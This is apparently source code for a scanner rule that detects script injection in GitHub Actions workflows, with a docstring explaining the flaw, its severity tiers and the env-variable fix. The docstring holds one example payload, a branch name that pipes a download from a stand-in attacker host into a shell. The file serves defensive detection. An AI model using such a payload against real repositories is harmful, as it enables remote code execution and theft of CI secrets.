"""Text that a stranger controls became part of a script of a workflow.

`${{ … }}` is substituted into `run` before the shell sees it, so the title of an issue, the body of a comment
or the name of a branch is code: a branch called `$(curl${IFS}evil.example|sh)` runs. Attackers got into
ultralytics (December 2024), nx (August 2025) and many others this way. The contexts are those that GitHub
Security Lab lists in "Keeping your GitHub Actions and workflows secure, part 2: untrusted input", and
`client_payload`.

High; critical under a trigger that runs with secrets on what strangers wrote (`pull_request_target`,
`workflow_run`, `issue_comment`, `issues`, `discussion…`). Low for `inputs`, which require permission to start
the workflow. There is one finding per file.

Not reported: an expression that the scripts of this file already had, one in `env` or `with` (the correct way
to pass it) or in a condition, and one that only selects between true and false.

In 1,474 workflow changes of 11 public repositories there were 5 findings, 4 of them high or critical.

Fix: pass it through the environment: `env: {TITLE: "${{ github.event.issue.title }}"}`, then `"$TITLE"`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator, Sequence

from fimci.findings import Finding, Severity, grouped
from fimci.model import Capability, Change, Record
from fimci.printable import listed
from fimci.workflows.expressions import expressions, inputs, untrusted
from fimci.workflows.sides import PRIVILEGED, Sides, settings, touched

SEVERITY = Severity.HIGH

_OPEN = (*PRIVILEGED, "issues", "discussion", "discussion_comment")
#: Contexts named in one message.
_SHOWN = 3


def check_all(changes: Sequence[Change], before: Sequence[Record]) -> Iterator[Finding]:
    """Object once per file to the strangers' text that its scripts gained, and once to inputs."""
    for sides in touched(changes, before):
        names = settings(sides.after)
        severity = Severity.CRITICAL if any(f"on.{event}" in names for event in _OPEN) else SEVERITY
        yield from _gained(sides, untrusted, severity, "text that strangers control")
        yield from _gained(sides, inputs, Severity.LOW, "an input")


def _gained(
    sides: Sides, contexts: Callable[[str], list[str]], severity: Severity, what: str
) -> Iterator[Finding]:
    """Object to the contexts of this sort that no script of the file had."""
    known = {name for _, name, _ in _uses(sides.before, contexts)}
    fresh = [use for use in _uses(sides.after, contexts) if use[1] not in known]
    fresh.sort(key=lambda use: use[2])
    if not fresh:
        return
    names = list(dict.fromkeys(name for _, name, _ in fresh))
    script, _, line = fresh[0]
    scripts = list({use[0].key: use[0] for use in fresh}.values())
    yield grouped(
        [Change(before=None, after=one) for one in scripts],
        rule="workflow-injection",
        severity=severity,
        message=f"{what} is inserted into the script of {script.subject}: {listed(names, _SHOWN)}",
        line=line,
    )


def _uses(
    records: Iterable[Record], contexts: Callable[[str], list[str]]
) -> Iterator[tuple[Capability, str, int]]:
    """Yield script, context and line for each use of such a context in a script."""
    for record in records:
        if (
            isinstance(record, Capability)
            and record.name in {"shell", "dynamic-code"}
            and "${{" in record.detail
        ):
            literal = dict(record.at.parts).get("text")
            for expression, offset in expressions(record.detail):
                for name in contexts(expression):
                    yield record, name, record.at.line if literal is None else literal + offset
